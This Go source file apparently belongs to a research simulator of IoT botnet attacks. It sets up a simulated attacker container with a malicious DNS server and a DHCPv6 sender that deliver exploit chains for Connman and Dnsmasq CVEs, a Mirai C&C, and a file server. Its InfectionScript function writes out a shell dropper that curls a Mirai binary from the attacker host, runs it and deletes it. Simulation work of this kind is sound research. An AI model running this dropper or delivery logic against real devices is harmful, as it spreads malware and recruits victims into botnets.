// Package attacker assembles the Attacker component of §II-A/§III-A:
// one Docker-style container hosting the Exploit & Infection Scripts
// (a malicious DNS server for Connman's CVE-2017-12865 and a periodic
// DHCPv6 RELAY-FORW sender for Dnsmasq's CVE-2017-14493), the Mirai
// C&C server, and the Apache-style file server that hands out the
// infection shell script and the arch-specific bot binaries.
package attacker

import (
	"fmt"
	"net/netip"
	"strings"

	"ddosim/internal/binaries/image"
	"ddosim/internal/container"
	"ddosim/internal/dhcpv6"
	"ddosim/internal/dht"
	"ddosim/internal/dnsmsg"
	"ddosim/internal/exploit"
	"ddosim/internal/mirai"
	"ddosim/internal/netsim"
	"ddosim/internal/obs"
	"ddosim/internal/p2pbot"
	"ddosim/internal/shttp"
	"ddosim/internal/sim"
)

// The attacker's link to the simulated network (it is not the
// bottleneck in any experiment), and how often the DHCPv6 exploit
// script multicasts its RELAY-FORW.
const (
	linkRate     = 100 * netsim.Mbps
	linkDelay    = sim.Millisecond
	dhcpv6Period = 5 * sim.Second
)

// Config parameterizes the attacker deployment.
type Config struct {
	// ShellScriptPath is the file-server path of the infection
	// script. Default "/i.sh".
	ShellScriptPath string
	// DisableExploitScripts skips starting the malicious DNS server
	// and the DHCPv6 script — used when recruitment goes through the
	// credential vector instead of memory errors.
	DisableExploitScripts bool
	// Bot is the configuration baked into the distributed Mirai
	// binaries; CNC is filled in by Deploy.
	Bot mirai.BotConfig
	// CNC configures the command-and-control server.
	CNC mirai.CNCConfig
	// P2P switches the distributed binaries to the decentralized
	// family: the image ships a seeder daemon instead of the C&C, and
	// exploited Devs exec a Kademlia bot. Bot/CNC above are ignored.
	P2P bool
	// P2PBot is the configuration baked into the distributed P2P bot
	// binaries (Bootstrap is filled in by Deploy).
	P2PBot p2pbot.BotConfig
	// Seeder configures the botmaster's overlay seed process.
	Seeder p2pbot.SeederConfig
	// Obs, when set, records exploit deliveries (DNS responses,
	// DHCPv6 multicasts) as trace events and metrics, and is passed
	// through to the C&C.
	Obs *obs.Obs
}

// Attacker is the deployed component with handles to its
// sub-components.
type Attacker struct {
	Container  *container.Container
	CNC        *mirai.CNC
	FileServer *shttp.Server
	DNS        *MaliciousDNS
	DHCP       *DHCPv6Exploit
	// Seeder is the overlay seed process (P2P family only, nil
	// otherwise; rebound when fault injection re-execs the daemon).
	Seeder *p2pbot.Seeder
	// BotTemplate is the final bot configuration baked into the
	// distributed binaries (CNC and scanner endpoints filled in).
	BotTemplate mirai.BotConfig
	// P2PBotTemplate is its P2P-family counterpart (bootstrap endpoint
	// filled in).
	P2PBotTemplate p2pbot.BotConfig

	scriptURL string
}

// ScriptURL reports the ShellScript_URL the ROP payloads reference.
func (a *Attacker) ScriptURL() string { return a.scriptURL }

// CNCAddr reports the C&C endpoint bots connect to.
func (a *Attacker) CNCAddr() netip.AddrPort {
	return netip.AddrPortFrom(a.Container.Node().Addr4(), mirai.CNCPort)
}

// SeedAddr reports the overlay bootstrap endpoint (P2P family).
func (a *Attacker) SeedAddr() netip.AddrPort {
	return netip.AddrPortFrom(a.Container.Node().Addr4(), dht.DefaultPort)
}

// Deploy builds the attacker image, creates and starts its container,
// and launches all four sub-components. It also registers the "mirai"
// binary behaviour (with the C&C address baked in) so that Devs can
// execute the downloaded bot.
func Deploy(engine *container.Engine, cfg Config) (*Attacker, error) {
	if cfg.ShellScriptPath == "" {
		cfg.ShellScriptPath = "/i.sh"
	}
	if cfg.CNC.Obs == nil {
		cfg.CNC.Obs = cfg.Obs
	}

	img := &container.Image{
		Name: "ddosim/attacker",
		Tag:  "latest",
		Arch: "x86_64",
		Files: map[string][]byte{
			"/usr/bin/cnc":       container.BinaryContent("cnc", "x86_64"),
			"/usr/sbin/apache2":  container.BinaryContent("apache2", "x86_64"),
			"/opt/evil-dns":      container.BinaryContent("evil-dns", "x86_64"),
			"/opt/dhcp6-exploit": container.BinaryContent("dhcp6-exploit", "x86_64"),
		},
		ExecPaths: map[string]bool{
			"/usr/bin/cnc": true, "/usr/sbin/apache2": true,
			"/opt/evil-dns": true, "/opt/dhcp6-exploit": true,
		},
		ExtraBytes: 64 << 20, // Mirai toolchain, Apache, python scripts
	}
	if cfg.P2P {
		// The P2P botmaster ships a seeder instead of a C&C. Classic
		// images are untouched so their ContainerBytes (Table I input)
		// stay byte-identical.
		delete(img.Files, "/usr/bin/cnc")
		delete(img.ExecPaths, "/usr/bin/cnc")
		img.Files["/usr/bin/p2p-seed"] = container.BinaryContent("p2p-seed", "x86_64")
		img.ExecPaths["/usr/bin/p2p-seed"] = true
	}
	engine.RegisterImage(img)

	a := &Attacker{}

	engine.RegisterBinary("cnc", func(args []string) container.Behavior {
		a.CNC = mirai.NewCNC(cfg.CNC)
		return a.CNC
	})
	if cfg.P2P {
		// Like the C&C factory above, a fault-injection re-exec rebinds
		// a.Seeder to the fresh instance.
		engine.RegisterBinary("p2p-seed", func(args []string) container.Behavior {
			a.Seeder = p2pbot.NewSeeder(cfg.Seeder)
			return a.Seeder
		})
	}
	engine.RegisterBinary("apache2", func(args []string) container.Behavior {
		return &fileServerBehavior{attacker: a, path: cfg.ShellScriptPath}
	})
	engine.RegisterBinary("evil-dns", func(args []string) container.Behavior {
		a.DNS = NewMaliciousDNS(func() string { return a.scriptURL })
		a.DNS.Observe(cfg.Obs)
		return a.DNS
	})
	engine.RegisterBinary("dhcp6-exploit", func(args []string) container.Behavior {
		a.DHCP = NewDHCPv6Exploit(func() string { return a.scriptURL })
		a.DHCP.Observe(cfg.Obs)
		return a.DHCP
	})

	c, err := engine.Create(img.Ref(), "attacker", container.LinkConfig{
		Rate: linkRate, Delay: linkDelay,
	})
	if err != nil {
		return nil, fmt.Errorf("attacker: %w", err)
	}
	a.Container = c
	if err := c.Start(); err != nil {
		return nil, fmt.Errorf("attacker: %w", err)
	}
	a.scriptURL = "http://" + c.Node().Addr4().String() + cfg.ShellScriptPath

	if cfg.P2P {
		// Bake the overlay entry point into the distributed P2P bot
		// binaries; the same downloaded-binary path delivers them.
		p2pCfg := cfg.P2PBot
		a.P2PBotTemplate = p2pCfg
		p2pCfg.Bootstrap = append(p2pCfg.Bootstrap, a.SeedAddr())
		a.P2PBotTemplate = p2pCfg
		engine.RegisterBinary(image.BinMirai, p2pbot.BotFactory(p2pCfg))
	} else {
		// Bake the C&C endpoint into the distributed bot binaries; when
		// the scanner module is on, point it at our loader and keep it
		// away from our own infrastructure.
		botCfg := cfg.Bot
		botCfg.CNC = a.CNCAddr()
		if botCfg.Scan.Enabled {
			botCfg.Scan.ReportTo = netip.AddrPortFrom(c.Node().Addr4(), mirai.ScanListenPort)
			botCfg.Scan.Skip = append(botCfg.Scan.Skip, c.Node().Addr4())
		}
		a.BotTemplate = botCfg
		engine.RegisterBinary(image.BinMirai, mirai.BotFactory(botCfg))
	}

	// Launch sub-components.
	bins := []string{"/usr/bin/cnc", "/usr/sbin/apache2"}
	if cfg.P2P {
		bins[0] = "/usr/bin/p2p-seed"
	}
	if !cfg.DisableExploitScripts {
		bins = append(bins, "/opt/evil-dns", "/opt/dhcp6-exploit")
	}
	for _, bin := range bins {
		if _, err := c.ExecFile(bin, nil); err != nil {
			return nil, fmt.Errorf("attacker: start %s: %w", bin, err)
		}
	}
	return a, nil
}

// InfectionScript renders the shell script served at ShellScript_URL:
// fetch the arch-matching Mirai build, run it, remove the file.
func InfectionScript(fileServerAddr string) string {
	return strings.Join([]string{
		"#!/bin/sh",
		"curl -s http://" + fileServerAddr + "/bins/mirai.$(uname -m) -o /tmp/.mirai",
		"chmod +x /tmp/.mirai",
		"/tmp/.mirai &",
		"rm -f /tmp/.mirai",
	}, "\n")
}

// fileServerBehavior runs the Apache-style file server inside the
// attacker container.
type fileServerBehavior struct {
	attacker *Attacker
	path     string
}

func (f *fileServerBehavior) Name() string { return "apache2" }

func (f *fileServerBehavior) Start(p *container.Process) {
	srv, err := shttp.NewServer(p.Node(), shttp.DefaultPort)
	if err != nil {
		p.Logf("apache2: %v", err)
		return
	}
	addr := p.Node().Addr4().String()
	srv.Handle(f.path, []byte(InfectionScript(addr)))
	for _, arch := range image.Architectures {
		srv.Handle("/bins/mirai."+arch, container.BinaryContent(image.BinMirai, arch))
	}
	f.attacker.FileServer = srv
}

func (f *fileServerBehavior) Stop(*container.Process) {}

// MaliciousDNS is the Connman exploit delivery server: it answers any
// DNS query with a response whose RDATA is the ROP payload.
type MaliciousDNS struct {
	scriptURL func() string
	sock      *netsim.UDPSocket
	p         *container.Process

	// QueriesServed counts exploit responses sent.
	QueriesServed uint64

	trace *obs.Tracer
}

var _ container.Behavior = (*MaliciousDNS)(nil)

// NewMaliciousDNS creates the behaviour; scriptURL is deferred because
// the attacker's address is only known after container creation.
func NewMaliciousDNS(scriptURL func() string) *MaliciousDNS {
	return &MaliciousDNS{scriptURL: scriptURL}
}

// Observe attaches the observability bundle's tracer.
func (m *MaliciousDNS) Observe(o *obs.Obs) { m.trace = o.Tracer() }

// Name implements container.Behavior.
func (m *MaliciousDNS) Name() string { return "evil-dns" }

// Start implements container.Behavior.
func (m *MaliciousDNS) Start(p *container.Process) {
	m.p = p
	sock, err := p.BindUDP(53, m.onQuery)
	if err != nil {
		p.Logf("evil-dns: %v", err)
		return
	}
	m.sock = sock
}

// Stop implements container.Behavior.
func (m *MaliciousDNS) Stop(*container.Process) {}

func (m *MaliciousDNS) onQuery(src netip.AddrPort, payload []byte, _ int) {
	q, err := dnsmsg.Decode(payload)
	if err != nil || q.IsResponse() {
		return
	}
	chain, err := exploit.ForBinary(image.BinConnman, m.scriptURL())
	if err != nil {
		m.p.Logf("evil-dns: build chain: %v", err)
		return
	}
	resp := dnsmsg.NewResponse(q, dnsmsg.TypeA, 30, chain)
	m.sock.SendTo(src, resp.Encode())
	m.QueriesServed++
	m.trace.Event(m.p.Sched().Now(), obs.CatExploit, "exploit-attempt",
		obs.KV{K: "channel", V: "dns"}, obs.KV{K: "victim", V: src.Addr().String()})
}

// DHCPv6Exploit multicasts the crafted RELAY-FORW that exploits Dnsmasq
// every dhcpv6Period, mirroring the paper's Python script.
type DHCPv6Exploit struct {
	scriptURL func() string
	sock      *netsim.UDPSocket
	p         *container.Process

	// MessagesSent counts multicast exploit datagrams.
	MessagesSent uint64

	trace *obs.Tracer
}

// Observe attaches the observability bundle's tracer.
func (d *DHCPv6Exploit) Observe(o *obs.Obs) { d.trace = o.Tracer() }

var _ container.Behavior = (*DHCPv6Exploit)(nil)

// srcDHCPv6 labels the DHCPv6 exploit's sends.
var srcDHCPv6 = sim.NewSource("attacker.dhcpv6")

// NewDHCPv6Exploit creates the behaviour.
func NewDHCPv6Exploit(scriptURL func() string) *DHCPv6Exploit {
	return &DHCPv6Exploit{scriptURL: scriptURL}
}

// Name implements container.Behavior.
func (d *DHCPv6Exploit) Name() string { return "dhcp6-exploit" }

// Start implements container.Behavior.
func (d *DHCPv6Exploit) Start(p *container.Process) {
	d.p = p
	sock, err := p.BindUDP(0, nil)
	if err != nil {
		p.Logf("dhcp6-exploit: %v", err)
		return
	}
	d.sock = sock
	t := p.NewTicker(dhcpv6Period, srcDHCPv6, d.send)
	t.StartImmediate()
}

// Stop implements container.Behavior.
func (d *DHCPv6Exploit) Stop(*container.Process) {}

func (d *DHCPv6Exploit) send() {
	chain, err := exploit.ForBinary(image.BinDnsmasq, d.scriptURL())
	if err != nil {
		d.p.Logf("dhcp6-exploit: build chain: %v", err)
		return
	}
	msg := dhcpv6.NewRelayForw(d.p.Node().Addr6(), netip.IPv6LinkLocalAllNodes(), chain)
	dst := netip.AddrPortFrom(dhcpv6.AllRelayAgentsAndServers, dhcpv6.ServerPort)
	d.sock.SendTo(dst, msg.Encode())
	d.MessagesSent++
	d.trace.Event(d.p.Sched().Now(), obs.CatExploit, "exploit-attempt",
		obs.KV{K: "channel", V: "dhcpv6"})
}
